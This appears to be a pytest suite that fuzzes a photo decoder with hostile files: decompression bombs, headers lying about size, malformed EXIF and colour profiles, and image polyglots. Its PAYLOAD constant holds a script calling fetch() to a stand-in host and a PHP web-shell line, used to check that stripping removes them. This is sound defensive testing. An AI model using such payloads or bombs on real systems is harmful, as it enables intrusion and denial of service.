"""Hostile photos: whatever bytes come, each is read or refused in words, in bounded memory and time; the next one is served."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace

import numpy as np
import pillow_heif
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from ingest.photo import Decoder, PhotoLimits
from ingest.sniff import FORMATS
from store.errors import PhotoRefused

pillow_heif.register_heif_opener()
Corpus = Iterator[tuple[str, bytes]]
LIMITS = PhotoLimits()
OVERHEAD = 300 * 1024 * 1024
"""Resident memory that Python and the image libraries may hold beside a photo."""


def saved(image: Image.Image, name: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, name, **options)
    return buffer.getvalue()


def scene(size: tuple[int, int] = (160, 120)) -> Image.Image:
    """A picture with detail in it, so that its data are long enough to cut and flip."""
    values = np.random.default_rng(3).integers(0, 255, (*size[::-1], 3), dtype=np.uint8)
    return Image.blend(Image.fromarray(values), Image.linear_gradient("L").resize(size).convert("RGB"), 0.7)


GOOD = {name: saved(scene(), name) for name in FORMATS}
PAYLOAD = b"<script>fetch('//evil.example')</script><?php system($_GET[0]); ?>"


# --- the corpus: each generator yields (label, bytes) --------------------------------------------------------


def truncated() -> Corpus:
    """Every format cut at sixteen places."""
    for name, data in GOOD.items():
        for step in range(1, 17):
            yield f"{name} cut at {step}/17", data[: len(data) * step // 17]


def flipped() -> Corpus:
    """Every format with a few random bits turned, many of them in the headers."""
    dice = random.Random(11)
    for name, data in GOOD.items():
        for number in range(24):
            broken = bytearray(data)
            for _ in range(dice.choice((1, 3, 20))):
                at = dice.randrange(8, min(len(data), 400) if number % 2 else len(data))
                broken[at] ^= 1 << dice.randrange(8)
            yield f"{name} flipped {number}", bytes(broken)


def garbage() -> Corpus:
    """Magic bytes with noise behind them, and nearly nothing."""
    dice = random.Random(13)
    for name, data in GOOD.items():
        for length in (0, 1, 20, 500, 5000, 100_000):
            yield f"{name} noise {length}", data[:12] + dice.randbytes(length)
    for length in (0, 1, 3, 8, 12):
        yield f"only {length}", b"\xff\xd8\xff\xe0" + bytes(length)
    yield "empty", b""


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, depth: int = 8, colour: int = 2, data: bytes = b"", extra: bytes = b"") -> bytes:
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + png_chunk(b"IDAT", data or zlib.compress(bytes(100))) + png_chunk(b"IEND", b"")


def patched(data: bytes, marker: bytes, offset: int, new: bytes) -> bytes:
    at = data.index(marker) + offset
    return data[:at] + new + data[at + len(new) :]


SIZES = [(50_000, 50_000), (65_535, 65_535), (16_383, 16_383), (65_535, 1), (1, 65_535), (0, 0), (0, 100), (65_535, 990)]


def lying() -> Corpus:
    """Headers that claim another size than the data have."""
    for width, height in [*SIZES, (2**31 - 1, 2**31 - 1), (2**32 - 1, 1), (2**31, 8)]:
        yield f"PNG says {width}x{height}", png(width, height)
        yield f"HEIF says {width}x{height}", patched(GOOD["HEIF"], b"ispe", 8, struct.pack(">II", width, height))
    for width, height in SIZES:
        yield f"JPEG says {width}x{height}", patched(GOOD["JPEG"], b"\xff\xc0", 5, struct.pack(">HH", height, width))
        yield f"GIF says {width}x{height}", patched(GOOD["GIF"], b"GIF", 6, struct.pack("<HH", width, height))
        yield (
            f"GIF frame says {width}x{height}",
            patched(GOOD["GIF"], b",\0\0\0\0\xa0\0\x78", 5, struct.pack("<HH", width, height)),
        )
    for width, height in [(16_383, 16_383), (2**24, 2**24), (2**24, 8)]:
        canvas = struct.pack("<I", 0)[:4] + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
        body = b"VP8X" + struct.pack("<I", 10) + canvas + GOOD["WEBP"][12:]
        yield f"WebP canvas says {width}x{height}", b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body
    for size in (0, 1, 2**32 - 1):
        yield f"WebP file says {size}", patched(GOOD["WEBP"], b"RIFF", 4, struct.pack("<I", size))


def zeros(count: int) -> bytes:
    """``count`` zero bytes, deflated, without ever holding them."""
    squeeze, block = zlib.compressobj(1), bytes(1 << 20)
    parts = [squeeze.compress(block) for _ in range(count >> 20)]
    return b"".join(parts) + squeeze.flush()


def bombs() -> Corpus:
    """Few bytes that unfold into very many."""
    much = zeros(1 << 27)
    yield "PNG 30000x30000 of one bit", png(30_000, 30_000, 1, 0, zeros(30_000 * 3_751))
    yield "PNG 8000x8000, whole", png(8_000, 8_000, 8, 2, zeros(8_000 * 24_001 + (1 << 20)))
    yield "PNG 4000x4000 of 16-bit alpha", png(4_000, 4_000, 16, 6, zeros(4_000 * 32_001 + (1 << 20)))
    yield "PNG with 128 MB behind its pixels", png(64, 64, 8, 2, much)
    for kind, head in ((b"zTXt", b"k\0\0"), (b"iTXt", b"k\0\1\0\0\0"), (b"iCCP", b"icc\0\0")):
        yield f"PNG {kind!r} bomb", png(64, 64, 8, 2, zeros(1 << 20), png_chunk(kind, head + much))
        many = png_chunk(kind, head + zeros(1 << 20)) * 200
        yield f"PNG {kind!r} in two hundred pieces", png(64, 64, 8, 2, zeros(1 << 20), many)
    yield "WebP 16383x16383 of one colour", saved(Image.new("RGB", (16_383, 4_000)), "WEBP", lossless=True, method=0)
    yield "GIF 4000x4000 of one colour", saved(Image.new("P", (4_000, 4_000)), "GIF")
    yield "JPEG 8000x8000 progressive", saved(Image.new("RGB", (8_000, 8_000)), "JPEG", progressive=True)


def animations() -> Corpus:
    """A hundred thousand frames, or the claim of them."""
    still = saved(Image.new("P", (16, 16)), "GIF")
    frame = b"!\xf9\x04\0\0\0\0\0" + still[still.index(b",\0\0\0\0") : -1]
    yield "GIF of 100000 frames", still[:-1] + frame * 100_000 + b";"
    yield "GIF that never ends", still[:-1] + frame * 1000
    yield (
        "GIF of empty extensions",
        still[: still.index(b",\0\0\0\0")] + b"!\xfe\x01a\0" * 200_000 + still[still.index(b",\0\0\0\0") :],
    )
    for count in (0, 1, 2**31 - 1, 2**32 - 1):
        control = png_chunk(b"acTL", struct.pack(">II", count, 0))
        yield f"APNG says {count} frames", png(64, 64, 8, 2, zlib.compress(bytes(64 * 193)), control)
    frames = [Image.new("RGB", (16, 16), (n, 0, 0)) for n in range(200)]
    webp = saved(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True)
    yield "WebP of 200 frames", webp
    body = webp[12:] + webp[webp.index(b"ANMF") :] * 40
    yield "WebP of 8000 frames", b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def tiff(entries: list[tuple[int, int, int, int]], tail: bytes = b"", following: int = 0) -> bytes:
    """An EXIF block with one directory: (tag, type, count, value or offset) each."""
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + body + struct.pack("<I", following) + tail


def exif_blocks() -> Corpus:
    """Records that point at themselves, overlap, lie about counts or hold the wrong types."""
    blocks = {
        "directory follows itself": tiff([(271, 2, 4, 0x61)], following=8),
        "sub-directory is its parent": tiff([(0x8769, 4, 1, 8), (0x8825, 4, 1, 8)]),
        "sub-directory far outside": tiff([(0x8769, 4, 1, 2**32 - 1), (0x8825, 4, 1, 0)]),
        "65535 entries": tiff([(271, 2, 4, 0x61)])[:14] + b"\xff\xff" + bytes(60_000),
        "overlapping values": tiff([(n, 1, 60_000, 8) for n in range(1, 4000)], bytes(12_000)),
        "count of four billion": tiff([(271, 2, 2**32 - 1, 8), (272, 5, 2**29, 8), (36867, 7, 2**31, 8)]),
        "unknown types": tiff([(271, 99, 1, 8), (272, 0, 1, 8), (274, 13, 1, 8)]),
        "orientation 9": tiff([(274, 3, 1, 9)]),
        "orientation as text": tiff([(274, 2, 4, 0x36)]),
        "position as text": tiff([(0x8825, 4, 1, 26)], struct.pack("<HHHIIHHIII", 2, 2, 2, 4, 0x41, 4, 2, 4, 0x41, 0)),
        "sub-directory as text": tiff([(0x8769, 2, 8, 8), (0x8825, 2, 4, 0x41414141)]),
        "nothing": b"Exif\0\0",
        "no directory": b"Exif\0\0II*\0\xff\xff\xff\xff",
        "big-endian lie": b"Exif\0\0MM\0*\0\0\0\x08\xff\xff",
        "BigTIFF": b"Exif\0\0II+\0\x08\0\0\0" + bytes(40),
        "noise": b"Exif\0\0II*\0\x08\0\0\0" + random.Random(5).randbytes(60_000),
    }
    for label, block in blocks.items():
        for name in ("JPEG", "PNG", "WEBP"):
            yield f"{name} EXIF: {label}", saved(scene((64, 48)), name, exif=block[:65_000])
    yield (
        "PNG EXIF of 8 MB",
        saved(scene((64, 48)), "PNG", exif=tiff([(n, 1, 8_000_000, 8) for n in range(4000)], bytes(8_000_000))),
    )


def profiles() -> Corpus:
    """Colour profiles that are none."""
    for label, profile in {"empty": b"", "short": b"abc", "lying": b"\xff" * 128 + bytes(500), "large": bytes(2_000_000)}.items():
        for name in ("JPEG", "PNG", "WEBP"):
            yield f"{name} ICC {label}", saved(scene((64, 48)), name, icc_profile=profile)
    jpeg = GOOD["JPEG"]
    for number, total in ((0, 0), (5, 2), (255, 255), (1, 0)):
        segment = b"\xff\xe2" + struct.pack(">H", 20) + b"ICC_PROFILE\0" + bytes((number, total)) + bytes(4)
        yield f"JPEG ICC piece {number} of {total}", jpeg[:2] + segment * 300 + jpeg[2:]


def structures() -> Corpus:
    """Broken insides: segments of length zero, endless markers, absurd tables and boxes."""
    jpeg, gif, heif = GOOD["JPEG"], GOOD["GIF"], GOOD["HEIF"]
    yield "JPEG segment of length 0", jpeg[:2] + b"\xff\xe1\0\0" + jpeg[2:]
    yield "JPEG segment of length 1", jpeg[:2] + b"\xff\xfe\0\1" + jpeg[2:]
    yield "JPEG of fill bytes", jpeg[:2] + b"\xff" * 2_000_000 + jpeg[2:]
    yield "JPEG of comments", jpeg[:2] + b"\xff\xfe\0\2" * 200_000 + jpeg[2:]
    yield "JPEG of beginnings", b"\xff\xd8" * 200_000 + jpeg
    yield "JPEG without tables", patched(jpeg, b"\xff\xc4", 0, b"\xff\xe5")
    yield "JPEG lossless", patched(jpeg, b"\xff\xc0", 0, b"\xff\xc3")
    yield "JPEG arithmetic", patched(jpeg, b"\xff\xc0", 0, b"\xff\xc9")
    for value in (0, 1, 12, 16, 255):
        yield f"JPEG precision {value}", patched(jpeg, b"\xff\xc0", 4, bytes((value,)))
        yield f"JPEG components {value}", patched(jpeg, b"\xff\xc0", 9, bytes((value,)))
        yield f"JPEG sampling {value}", patched(jpeg, b"\xff\xc0", 11, bytes((value,)))
        yield f"GIF code size {value}", patched(gif, b",\0\0\0\0\xa0\0\x78\0", 10, bytes((value,)))
        yield f"PNG depth {value}", png(64, 64, value, 2)
        yield f"PNG colour type {value}", png(64, 64, 8, value)
    for at in range(0, len(heif) - 8, max(1, len(heif) // 40)):
        yield f"HEIF long at {at}", heif[:at] + b"\xff\xff\xff\xff" + heif[at + 4 :]
    box = b"\0\0\0\x08moov"
    yield "HEIF of nested boxes", heif[:28] + b"".join(struct.pack(">I", 80_000 - n * 8) + b"meta" for n in range(9_000))
    yield "HEIF of empty boxes", heif[:28] + box * 100_000 + heif[28:]
    yield "HEIF box without end", heif[:28] + b"\0\0\0\0meta" + bytes(1000)
    yield "HEIF box of 64 bits", heif[:28] + b"\0\0\0\1meta" + b"\xff" * 8 + bytes(1000)


def others() -> Corpus:
    """Files of other formats, whatever they are named."""
    image = scene((32, 32))
    for name in ("TIFF", "BMP", "PPM", "ICO", "TGA", "PCX", "SGI", "EPS", "PDF", "JPEG2000", "DDS", "AVIF", "MSP"):
        try:
            yield name, saved(image.convert("1") if name == "MSP" else image, name)
        except (OSError, KeyError):
            continue  # this build of Pillow cannot write it
    yield "SVG", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    yield "HTML", b"<!DOCTYPE html><html><body>log in</body></html>"
    yield "MP4", b"\0\0\0\x20ftypisom\0\0\2\0isomiso2avc1mp41" + bytes(200)
    yield "HEIF without a codec", b"\0\0\0\x18ftypmif1\0\0\0\0mif1miaf" + bytes(200)
    yield "AVIF that calls itself mif1", b"\0\0\0\x1cftypmif1\0\0\0\0mif1avifmiaf" + bytes(200)
    for label, magic in {
        "ELF": b"\x7fELF",
        "EXE": b"MZ",
        "ZIP": b"PK\3\4",
        "PSD": b"8BPS",
        "XCF": b"gimp xcf",
        "RAR": b"Rar!",
    }.items():
        yield label, magic + bytes(500)


def polyglots() -> Corpus:
    """Photos that are something else as well."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("evil.html", PAYLOAD)
    for name, data in GOOD.items():
        yield f"{name} + script", data + PAYLOAD
        yield f"{name} + zip", data + archive.getvalue() + PAYLOAD
        yield f"script + {name}", PAYLOAD + data
        yield f"PDF + {name}", b"%PDF-1.7\n" + PAYLOAD + data
    yield "JPEG with a script for a comment", saved(scene(), "JPEG", comment=PAYLOAD)
    yield "JPEG with a script for EXIF", saved(scene(), "JPEG", exif=tiff([(271, 2, len(PAYLOAD), 26)], PAYLOAD))
    yield "PNG with a script for a text", png(64, 64, 8, 2, zeros(1 << 20), png_chunk(b"tEXt", b"k\0" + PAYLOAD))
    yield "GIF that is JavaScript", b"GIF89a/*" + bytes(200) + b"*/=1;" + PAYLOAD
    yield "GIF with a script for a comment", GOOD["GIF"][:-1] + b"!\xfe" + bytes((len(PAYLOAD),)) + PAYLOAD + b"\0;"
    yield "WebP with a script for XMP", saved(scene(), "WEBP", xmp=PAYLOAD)


FAMILIES: list[Callable[[], Corpus]] = [
    *(truncated, flipped, garbage, lying, bombs, animations, exif_blocks, profiles, structures, others, polyglots),
]
NEVER_READ = {"truncated": 60, "garbage": 36, "others": 18}
"""Families of which (nearly) nothing may pass for a photo: how many are refused at least."""


# --- what must hold --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def decoder() -> Iterator[Decoder]:
    with Decoder() as shared:
        yield shared


def outcome(decoder: Decoder, label: str, data: bytes) -> str:
    """ "read" or why it was refused. Anything else that happens is an error, and so is a photo beyond its limits."""
    try:
        photo, pixels = decoder.read(data)
    except PhotoRefused as refusal:
        return str(refusal)
    assert photo.format in FORMATS, label
    assert photo.width_px * photo.height_px <= LIMITS.max_pixels, label
    assert pixels.ndim == 3, label
    assert max(pixels.shape[:2]) <= LIMITS.max_side_px, label
    return "read"


def test_the_corpus_is_large() -> None:
    """At least 300 different hostile inputs are tried."""
    assert len({data for family in FAMILIES if family is not bombs for _, data in family()}) >= 400


@pytest.mark.parametrize("family", FAMILIES, ids=lambda family: family.__name__)
def test_every_input_is_read_or_refused(decoder: Decoder, family: Callable[[], Corpus]) -> None:
    """No hostile input crashes, hangs or escapes as another error; memory stays bounded; an honest photo is read right after."""
    refused = sum(outcome(decoder, label, data) != "read" for label, data in family())
    assert refused >= NEVER_READ.get(family.__name__, 0)
    assert decoder.open(GOOD["JPEG"]).width_px == 160
    assert decoder.peak_bytes < LIMITS.memory_bytes + OVERHEAD


def test_bombs_are_refused_by_their_header(decoder: Decoder) -> None:
    """A size beyond the limit is refused in words that name it, before a pixel is decoded (the process lives on)."""
    decoder.open(GOOD["PNG"])
    before = decoder.pids
    for data in (png(50_000, 50_000), png(2**31 - 1, 2**31 - 1), patched(GOOD["GIF"], b"GIF", 6, b"\xff\xff\xff\xff")):
        assert "pixels" in outcome(decoder, "bomb", data)
    assert decoder.pids == before


def test_processor_time_is_bounded() -> None:
    """A progressive JPEG whose last scan is repeated thousands of times is cut off by processor time and refused."""
    jpeg = saved(Image.new("RGB", (4_000, 4_000)), "JPEG", progressive=True)
    last = jpeg.rindex(b"\xff\xda")
    bomb = jpeg[:-2] + jpeg[last:-2] * 3_000 + b"\xff\xd9"
    assert len(bomb) < LIMITS.max_bytes
    with Decoder(replace(LIMITS, cpu_s=1)) as hurried, pytest.raises(PhotoRefused, match="SIGXCPU"):
        hurried.open(bomb)


def test_memory_is_bounded() -> None:
    """A photo that needs more memory than allowed is refused, not the machine's undoing."""
    with Decoder(replace(LIMITS, memory_bytes=64 << 20)) as poor:
        assert outcome(poor, "large", saved(Image.new("RGB", (7_000, 7_000)), "PNG")) != "read"
        assert outcome(poor, "small", GOOD["PNG"]) == "read"


def test_nothing_rides_behind_what_is_shown(decoder: Decoder) -> None:
    """Of a polyglot that can be read as a photo, the shown copy holds the picture and not a byte of the payload."""
    shown = 0
    for label, data in polyglots():
        try:
            clean = decoder.strip(data)
        except PhotoRefused:
            continue
        shown += 1
        assert b"script" not in clean, label
        assert b"PK\3\4" not in clean, label
        assert b"evil" not in clean, label
    assert shown >= 10


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.sampled_from(FORMATS), edits=st.lists(st.tuples(st.integers(0, 2000), st.binary(max_size=6)), max_size=8))
def test_edited_photos(decoder: Decoder, name: str, edits: list[tuple[int, bytes]]) -> None:
    """Photos with any bytes overwritten anywhere are read or refused."""
    data = bytearray(GOOD[name])
    for at, new in edits:
        data[at : at + len(new)] = new
    outcome(decoder, name, bytes(data))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(magic=st.sampled_from([data[:12] for data in GOOD.values()] + [b""]), noise=st.binary(max_size=400))
def test_any_bytes(decoder: Decoder, magic: bytes, noise: bytes) -> None:
    """Any bytes at all are read or refused."""
    outcome(decoder, "noise", magic + noise)
